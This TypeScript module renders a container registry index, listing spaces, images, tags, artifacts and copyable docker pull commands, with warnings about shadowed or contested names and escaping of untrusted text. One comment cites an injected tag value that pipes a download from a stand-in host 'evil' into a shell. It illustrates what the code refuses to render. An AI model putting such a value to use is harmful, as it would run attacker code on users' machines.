// Rendering the index: lists of spaces, a space with its members, images and tags (digest, CID,
// size and platforms as the index read them, history), its artifacts with their labels and
// versions, and copyable `docker pull` lines. Everything from the chain is shown as text.
// A shadow (a later space with a name another space owns, docs/name-ownership.md) is marked as
// one and gets no `docker pull` lines: they would pull the owner's images. Which space is one is
// the chain's word where it could be asked (name-owner-check.ts), not only the index's.
import { copyable, formatBytes, formatTime, h, shortAddress, shortHash } from './dom';
import { type Bounded, bounded, LIST_BOUNDS, moreNote } from './list-bounds';
import type { CheckedSpace } from './name-owner-check';
import type { ArtifactVersionView, ArtifactView, ImageSummary, SpaceDetail, SpaceSummary, TagContent, TagView } from './queries';
import { sizeText } from './sizes';
import { countText, freeText, isSpaceName, nameText, pullCommand } from './untrusted-text';

// Names are shown through nameText (untrusted-text.ts): a lookalike or a bidi trick shows as escapes.
const nameOf = (item: { name: string | null; nameHex: string }) => (item.name === null ? `${nameText(item.nameHex)} (not text)` : nameText(item.name));
// Account ids are the index's word like everything else it says: shown escaped too, so an answer
// holding a bidi control or a lookalike letter cannot make one address read as another.
const accountText = (id: string) => nameText(String(id));
const shortAccount = (id: string) => shortAddress(accountText(id));

export function spaceList(title: string, all: SpaceSummary[], empty: string, open: (id: string) => void, limit: number = LIST_BOUNDS.memberships): HTMLElement {
  const heading = h('h3', {}, title);
  const spaces = bounded(all, limit);
  if (spaces.shown.length === 0) return h('div', { class: 'space-list' }, heading, h('p', { class: 'hint' }, empty));
  const items = spaces.shown.map((space) => {
    const button = h('button', { type: 'button', class: 'link' }, nameOf(space));
    button.addEventListener('click', () => open(space.id));
    const counts = `${countText(space.memberCount)} member${space.memberCount === 1 ? '' : 's'}, ${countText(space.imageCount)} image${space.imageCount === 1 ? '' : 's'}, ${countText(space.tagCount)} tag${space.tagCount === 1 ? '' : 's'}`;
    return h('li', { 'data-space': space.name ?? space.nameHex, 'data-space-id': space.id }, button, invalidNameMark(space), h('span', { class: 'hint' }, ` — ${counts}; owner ${shortAccount(space.owner.id)}`), shadowMark(space));
  });
  return h('div', { class: 'space-list' }, heading, h('ul', {}, ...items), moreNote(spaces, 'spaces'));
}

/** Images as `space/image` links that open their space (where the docker pull lines are). */
export function imageList(title: string, all: ImageSummary[], empty: string, open: (spaceId: string) => void): HTMLElement {
  const heading = h('h3', {}, title);
  const images = bounded(all, LIST_BOUNDS.memberships);
  if (images.shown.length === 0) return h('div', { class: 'space-list' }, heading, h('p', { class: 'hint' }, empty));
  const items = images.shown.map((image) => {
    const name = `${nameOf(image.space)}/${nameOf(image)}`;
    const button = h('button', { type: 'button', class: 'link' }, name);
    button.addEventListener('click', () => open(image.space.id));
    return h('li', { 'data-image': name }, button, invalidNameMark(image.space), h('span', { class: 'hint' }, ` — ${countText(image.tagCount)} tag${image.tagCount === 1 ? '' : 's'}, updated ${formatTime(image.updatedAt)}`), shadowMark(image.space));
  });
  return h('div', { class: 'space-list' }, heading, h('ul', {}, ...items), moreNote(images, 'images'));
}

/** After a space whose name no registry client can use: it can only imitate another name. */
function invalidNameMark(space: SpaceSummary): HTMLElement | null {
  return isSpaceName(space.name) ? null : h('span', { class: 'invalid-mark' }, ' (not a valid registry name: nothing can be pulled from it)');
}

/** ` (shadow of space N)` after a shadow in a list; nothing for an owner. */
function shadowMark(space: SpaceSummary): HTMLElement | null {
  return space.shadowOf ? h('span', { class: 'shadow-mark' }, ` (shadow of space ${nameText(space.shadowOf.id)})`) : null;
}

/** What a person should know about the space's name before pulling: whose it is, and who took its writes. */
function nameNotice(space: SpaceSummary, name: string, registry: string): HTMLElement | null {
  if (space.shadowOf) {
    return h(
      'p',
      { class: 'warning', role: 'note', 'data-notice': 'shadow' },
      `This space is a shadow: the name "${name}" belongs to space ${nameText(space.shadowOf.id)} (owner ${accountText(space.shadowOf.owner.id)}), which claimed it first. `,
      `docker pull ${registry}/${name}/… pulls that space's images, never these, so no pull commands are shown here.`,
      space.takesNameWrites ? ' It sorts first in chain storage, so the chain records the name\'s writes in it: gateways refuse pushes to the name.' : '',
    );
  }
  if (!isSpaceName(space.name)) {
    return h(
      'p',
      { class: 'warning', role: 'note', 'data-notice': 'invalid-name' },
      `The name "${name}" is not a valid registry name (characters outside a-z, 0-9, ".", "_" and "-" are shown as \\u escapes), so no docker client can pull from this space and no pull commands are shown. `,
      'A name like this can only imitate another space\'s name: check the space id and owner.',
    );
  }
  if (space.nameTakenBy) {
    return h(
      'p',
      { class: 'warning', role: 'note', 'data-notice': 'contested' },
      `The name "${name}" is contested: space ${nameText(space.nameTakenBy.id)} (owner ${accountText(space.nameTakenBy.owner.id)}), created later with the same name${space.nameTakenBy.blockNumber === null ? '' : ` in block #${countText(space.nameTakenBy.blockNumber)}`}, sorts first in chain storage, so the chain records the name's writes there. `,
      'The pull commands below still pull this space\'s images through a gateway with the index (which follows the owner\'s records only); a gateway without it refuses them, and pushes to the name are refused.',
    );
  }
  return null;
}

export interface SpaceContents {
  /** Each tag's manifest content by tag id. */
  tags: Map<string, TagContent>;
  artifacts: ArtifactView[];
  /** The index's word on the name's owner checked against the chain (name-owner-check.ts). */
  ownership: Pick<CheckedSpace, 'pullable' | 'differences' | 'unchecked'>;
}

/** Where the index said otherwise than the chain, or that the chain could not be asked. */
function ownershipNotice(ownership: SpaceContents['ownership']): HTMLElement | null {
  if (ownership.differences.length) {
    return h(
      'p',
      { class: 'warning', role: 'note', 'data-notice': 'index-disagrees' },
      `The index disagrees with the chain about this space: ${ownership.differences.join('; ')}. Where they differ, the chain's word is shown${ownership.pullable ? '.' : ', and no pull commands.'}`,
    );
  }
  if (ownership.unchecked) return h('p', { class: 'hint', 'data-notice': 'ownership-unchecked' }, freeText(`Who owns this name is shown as the index says: the chain could not be asked (${ownership.unchecked}).`));
  return null;
}

export function spaceDetail(space: SpaceDetail, registry: string, me: string | undefined, contents: SpaceContents): HTMLElement {
  const name = nameOf(space);
  const shadow = space.shadowOf !== null;
  const pullable = contents.ownership.pullable && !shadow;
  const memberList = bounded(space.members, LIST_BOUNDS.members, space.memberCount);
  const members = h(
    'ul',
    { class: 'members', 'aria-label': `Members of ${name}` },
    ...memberList.shown.map((m) => h('li', { 'data-member': m.account.id }, h('code', { title: accountText(m.account.id) }, accountText(m.account.id)), m.isOwner ? ' (owner)' : '', m.account.id === me ? ' — you' : '')),
  );
  const imageBound = bounded(space.images, LIST_BOUNDS.images, space.imageCount);
  const artifacts = bounded(contents.artifacts, LIST_BOUNDS.artifacts);
  const images = imageBound.shown.length
    ? imageBound.shown.map((image) => imageSection(registry, space, image, pullable, contents.tags))
    : [h('p', { class: 'hint' }, !pullable || !isSpaceName(space.name) ? 'No images.' : `No images yet. Push one with: docker push ${registry}/${name}/<image>:<tag>`)];
  return h(
    'article',
    { class: 'space', 'aria-labelledby': `space-${space.id}`, 'data-space-id': space.id },
    h('h3', { id: `space-${space.id}` }, shadow ? `Space ${name} (a shadow)` : `Space ${name}`),
    nameNotice(space, name, registry),
    ownershipNotice(contents.ownership),
    h('dl', { class: 'facts' }, h('dt', {}, 'Id'), h('dd', {}, nameText(space.id)), h('dt', {}, 'Owner'), h('dd', {}, h('code', {}, accountText(space.owner.id))), h('dt', {}, 'Created'), h('dd', {}, formatTime(space.timestamp))),
    h('h4', {}, `Members (${countOf(memberList)})`),
    members,
    moreNote(memberList, 'members'),
    h('h4', {}, `Images (${countOf(imageBound)})`),
    ...images,
    moreNote(imageBound, 'images'),
    h('h4', {}, `Artifacts (${countOf(artifacts)})`),
    moreNote(artifacts, 'artifacts'),
    ...(artifacts.shown.length
      ? artifacts.shown.map((artifact) => artifactSection(artifact))
      : [h('p', { class: 'hint' }, 'No artifacts: no manifest of this space names an artifactType (plugins, firmware, packages…).')]),
  );
}

/** An artifact: its kinds, the latest version's labels, and its versions, highest first. */
function artifactSection(artifact: ArtifactView): HTMLElement {
  const name = nameOf(artifact);
  const labelList = bounded(artifact.labels, LIST_BOUNDS.labels);
  const versions = bounded(artifact.versions, LIST_BOUNDS.versions, artifact.versionCount);
  const labels = labelList.shown.length
    ? h('ul', { class: 'labels', 'aria-label': `Labels of ${name}` }, ...labelList.shown.map((label) => h('li', { 'data-label': label.key }, h('code', {}, freeText(`${label.key}=${label.value}`)))))
    : h('p', { class: 'hint' }, 'No labels.');
  return h(
    'section',
    { class: 'artifact', 'data-artifact': name },
    h('h5', {}, name),
    h('p', { class: 'hint' }, `${bounded(artifact.kinds, LIST_BOUNDS.labels).shown.map(nameText).join(', ')} — ${countText(artifact.versionCount)} version${artifact.versionCount === 1 ? '' : 's'}`),
    artifact.description ? h('p', {}, freeText(artifact.description)) : null,
    labels,
    moreNote(labelList, 'labels'),
    h('ol', { class: 'versions', 'aria-label': `Versions of ${name}` }, ...versions.shown.map(versionItem)),
    moreNote(versions, 'versions'),
  );
}

function versionItem(version: ArtifactVersionView): HTMLElement {
  const fileList = bounded(version.files, LIST_BOUNDS.labels);
  const files = freeText(fileList.shown.map((file) => file.title ?? 'untitled').join(', ') + (fileList.hidden > 0 ? ', …' : ''));
  const size = version.totalSize === null ? '' : `, ${formatBytes(Number(version.totalSize))}`;
  return h(
    'li',
    { 'data-version': version.version ?? version.id },
    h('code', {}, version.version === null ? '(not text)' : nameText(version.version)),
    version.prerelease ? ' (pre-release)' : '',
    ` — ${files || 'no files'}${size}, `,
    h('code', { title: nameText(version.digest) }, shortHash(nameText(version.digest))),
    version.moved
      ? h('span', { class: 'moved-mark' }, ` moved ${countText(version.moveCount)}× after it was published (first ${shortHash(version.originalDigest && nameText(version.originalDigest))}, last on ${formatTime(version.lastMovedAt)})`)
      : null,
  );
}

function imageSection(registry: string, space: SpaceDetail, image: SpaceDetail['images'][number], pullable: boolean, contents: Map<string, TagContent>): HTMLElement {
  const name = nameOf(image);
  const tags = bounded(image.tags, LIST_BOUNDS.tags, image.tagCount);
  return h(
    'section',
    { class: 'image', 'data-image': name },
    h('h5', {}, `${nameOf(space)}/${name}`),
    ...tags.shown.map((tag) => tagCard(registry, space, image, tag, pullable, contents.get(tag.id))),
    moreNote(tags, 'tags'),
  );
}

/** The first platforms of an image index, and how many more it names. */
function platformsText(platforms: readonly string[]): string {
  const list = bounded(platforms, LIST_BOUNDS.platforms);
  return `${list.shown.map(nameText).join(', ')}${list.hidden > 0 ? `, … and ${list.hidden.toLocaleString('en')} more` : ''}`;
}

/**
 * `pullable`: false for a shadow's tags, whose pull commands would pull the name owner's images.
 * The commands are built from the raw names and offered only when each is valid (pullCommand):
 * a tag like "1.0;curl evil|sh" gets no line to paste into a shell.
 */
function tagCard(registry: string, space: SpaceDetail, image: SpaceDetail['images'][number], tag: TagView, pullable: boolean, content: TagContent | undefined): HTMLElement {
  const rawTag = tag.name ?? 'latest';
  const tagName = nameText(rawTag);
  const shown = `${nameOf(space)}/${nameOf(image)}`;
  const byTag = pullable ? pullCommand(registry, space.name, image.name, { tag: rawTag }) : undefined;
  const byDigest = pullable && tag.digest ? pullCommand(registry, space.name, image.name, { digest: tag.digest }) : undefined;
  const platforms = content?.platforms.length ? [h('dt', {}, 'Platforms'), h('dd', { class: 'platforms' }, platformsText(content.platforms))] : [];
  const kind = content?.artifactType ? [h('dt', {}, 'Artifact'), h('dd', { class: 'artifact-type' }, h('code', {}, nameText(content.artifactType)))] : [];
  const history = h(
    'details',
    {},
    h('summary', {}, `History (${countText(tag.updateCount)} update${tag.updateCount === 1 ? '' : 's'})`),
    h(
      'ol',
      {},
      ...bounded(tag.history, 10).shown.map((u) =>
        h('li', {}, `${formatTime(u.timestamp)}, block #${countText(u.blockNumber)}: `, h('code', { title: nameText(u.digest ?? '') }, shortHash(u.digest && nameText(u.digest))), u.previousDigest ? h('span', {}, ' (was ', h('code', { title: nameText(u.previousDigest) }, shortHash(nameText(u.previousDigest))), ')') : ' (new tag)', u.proxy ? ` — pushed through ${shortAccount(u.proxy)}` : ''),
      ),
    ),
  );
  return h(
    'div',
    { class: 'tag', 'data-tag': rawTag },
    h('h6', {}, `:${tagName}`),
    h(
      'dl',
      { class: 'facts' },
      h('dt', {}, 'Digest'),
      h('dd', {}, h('code', { class: 'wrap' }, tag.digest === null ? '—' : nameText(tag.digest))),
      h('dt', {}, 'CID'),
      h('dd', {}, h('code', { class: 'wrap' }, tag.manifest?.cid ? nameText(tag.manifest.cid) : '—')),
      h('dt', {}, 'Size'),
      h('dd', { class: 'size' }, sizeText(content)),
      ...platforms,
      ...kind,
      h('dt', {}, 'Updated'),
      h('dd', {}, formatTime(tag.updatedAt)),
    ),
    byTag ? copyable(byTag, `docker pull command for ${shown}:${tagName}`) : null,
    byDigest ? copyable(byDigest, `docker pull command for ${shown} by digest`) : null,
    pullable && !byTag ? h('p', { class: 'hint', 'data-notice': 'no-pull' }, byDigest ? 'No pull command by tag: the tag holds characters no tag may have. Pull by digest instead.' : 'No pull command: this reference holds characters no registry name or tag may have.') : null,
    history,
  );
}

/** A list's length as the index counted it, or what arrived when it gave no count. */
function countOf(list: Bounded<unknown>): string {
  const total = list.shown.length + list.hidden;
  return list.atLeast ? `${total}+` : total.toLocaleString('en');
}

/** The tag ids the page shows of a space (only their contents are asked of the index). */
export function shownTagIds(space: SpaceDetail): string[] {
  return bounded(space.images, LIST_BOUNDS.images).shown.flatMap((image) => bounded(image.tags, LIST_BOUNDS.tags).shown.map((tag) => tag.id));
}
